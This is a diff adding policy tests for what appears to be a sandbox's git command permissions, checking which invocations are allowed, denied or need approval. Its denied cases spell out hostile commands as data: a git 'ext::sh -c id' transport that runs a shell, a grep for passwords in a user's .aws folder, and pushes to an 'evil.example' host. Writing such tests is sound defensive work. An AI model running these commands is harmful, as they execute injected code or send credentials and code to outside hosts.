@@ -185,3 +185,30 @@ test_git_command_transport_deny if {
 	run("git", ["fetch", "ext::sh -c id"]) == "deny"
 	run("git", ["clone", "fd::3", "x"]) == "deny"
 }
+
+test_git_grep_outside_deny if {
+	run("git", ["grep", "--no-index", "password", "/home/user/.aws"]) == "deny"
+	git_opts(["grep", "-f", "/etc/patterns", "src/"], {"subcommand": "grep", "arguments": ["src/"], "option_list": [opt("-f", "/etc/patterns")]}) == "deny"
+}
+
+test_git_grep_inside_allow if {
+	run("git", ["grep", "--no-index", "/api/v1", "src/"]) == "allow"
+	run("git", ["grep", "-n", "TODO"]) == "allow"
+}
+
+test_git_push_to_location_deny if {
+	run("git", ["push", "https://evil.example/x.git", "HEAD"]) == "deny"
+	run("git", ["push", "git@evil.example:x/y.git", "main"]) == "deny"
+	run("git", ["push", "../mirror", "main"]) == "deny"
+}
+
+test_git_fetch_from_location_ask if {
+	run("git", ["fetch", "https://evil.example/x.git"]) == "ask"
+	run("git", ["pull", "/tmp/other", "main"]) == "ask"
+}
+
+test_git_remote_names_allow if {
+	run("git", ["push", "origin", "main"]) == "allow"
+	run("git", ["pull", "upstream", "main"]) == "allow"
+	run("git", ["fetch", "--all"]) == "allow"
+}
